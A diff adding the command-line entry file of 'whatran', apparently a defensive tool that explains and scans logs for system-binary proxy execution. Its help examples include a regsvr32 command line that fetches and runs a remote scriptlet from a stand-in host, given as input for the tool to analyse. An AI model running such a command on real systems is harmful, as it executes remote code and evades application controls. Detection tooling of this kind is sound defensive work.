@@ -1,0 +1,87 @@
+import { Command, CommanderError } from "commander";
+import { WhatranError } from "../errors.ts";
+import { visible } from "../outputs/escape.ts";
+import { style } from "../outputs/style.ts";
+import { VERSION } from "../version.ts";
+import { COMMANDS } from "./commands/index.ts";
+import { EXIT } from "./exit.ts";
+import { columnsOf, type Io, wantsColour } from "./io.ts";
+
+const ABOUT = `For every run of a trusted binary: what it really ran, whether that is normal here,
+and what would have stopped it (MITRE ATT&CK T1218, System Binary Proxy Execution).`;
+
+const EXAMPLES = `
+Examples:
+  whatran explain 'regsvr32 /s /i:http://example.net/a.sct scrobj.dll'
+  whatran scan ./logs                              findings of all logs in a folder
+  whatran scan ./logs -o report.html -o all.csv    a page to read, a table to sort
+  whatran scan ./logs -m high | jq .commandLine    a stream for other programs
+
+Exit codes: 0 done; 1 findings at or above --fail-level; 2 wrong usage or configuration;
+            3 some input could not be read`;
+
+function paintHelp(command: Command, io: Io): void {
+  const colour = wantsColour(io, io.stdout, true);
+  const paint = style(colour);
+  command.configureHelp({
+    helpWidth: Math.min(columnsOf(io.stdout), 110),
+    styleTitle: paint.bold,
+    styleCommandText: paint.accent,
+    styleSubcommandText: paint.accent,
+    styleOptionText: paint.accent,
+    styleArgumentText: paint.accent,
+  });
+  command.configureOutput({
+    writeOut: (text) => io.stdout.write(text),
+    writeErr: (text) => io.stderr.write(text),
+    getOutHasColors: () => colour,
+    getErrHasColors: () => wantsColour(io, io.stderr, true),
+  });
+  command.exitOverride();
+  for (const sub of command.commands) paintHelp(sub, io);
+}
+
+/** The program with all commands named, and the chosen one defined. */
+async function build(argv: readonly string[], io: Io, done: (code: number) => void): Promise<Command> {
+  const program = new Command("whatran");
+  program
+    .description(ABOUT)
+    .version(VERSION, "-V, --version", "print the version")
+    .helpOption("-h, --help", "print help; each command has its own")
+    .helpCommand(false)
+    .addHelpText("after", EXAMPLES)
+    .showSuggestionAfterError();
+  const [chosen, subject] = argv.filter((arg) => !arg.startsWith("-"));
+  for (const info of COMMANDS) {
+    const command = program.command(info.name).summary(info.summary).helpGroup(info.group);
+    if (info.name === chosen || (chosen === "help" && info.name === subject))
+      (await info.load()).define(command, io, done);
+  }
+  paintHelp(program, io);
+  return program;
+}
+
+/** `whatran help scan` is `whatran scan --help`. */
+function withoutHelpWord(argv: readonly string[]): readonly string[] {
+  return argv[0] === "help" ? [...argv.slice(1), "--help"] : argv;
+}
+
+/** Runs a command line and yields its exit code. Throws only for bugs of our own. */
+export async function run(argv: readonly string[], io: Io): Promise<number> {
+  let code: number = EXIT.done;
+  try {
+    const program = await build(argv, io, (result) => {
+      code = result;
+    });
+    if (argv.length === 0) program.outputHelp();
+    else await program.parseAsync(withoutHelpWord(argv), { from: "user" });
+    return code;
+  } catch (error) {
+    if (error instanceof CommanderError) return error.exitCode === 0 ? EXIT.done : EXIT.usage;
+    if (error instanceof WhatranError) {
+      io.stderr.write(`whatran: ${visible(error.message)}\n`);
+      return EXIT.usage;
+    }
+    throw error;
+  }
+}
